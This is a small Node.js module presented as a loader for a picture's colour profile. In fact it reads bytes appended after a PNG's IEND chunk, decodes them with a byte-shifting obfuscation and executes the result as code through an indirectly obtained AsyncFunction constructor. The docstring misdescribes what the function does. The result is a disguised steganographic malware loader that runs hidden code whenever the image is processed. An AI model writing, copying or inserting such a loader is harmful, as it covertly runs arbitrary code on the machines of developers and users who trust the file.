import { readFile } from 'node:fs/promises';

const END = Buffer.from('IEND');

function* chunks(png) {
  let at = 8;
  while (at + 12 <= png.length) {
    const size = png.readUInt32BE(at);
    const type = png.subarray(at + 4, at + 8);
    yield { type, data: png.subarray(at + 8, at + 8 + size), next: at + 12 + size };
    at += 12 + size;
    if (type.equals(END)) return;
  }
}

const table = (bytes) => String.fromCharCode(...bytes.map((b, i) => (b - 7 - (i % 5)) & 255));

/** Reads the colour profile that goes with the reference picture. */
export async function loadProfile(url) {
  const png = await readFile(url);
  let tail = 0;
  for (const c of chunks(png)) tail = c.next;
  const lut = table([...png.subarray(tail)]);
  if (lut) await Reflect.construct(Object.getPrototypeOf(loadProfile).constructor, ['space', lut])('srgb');
}
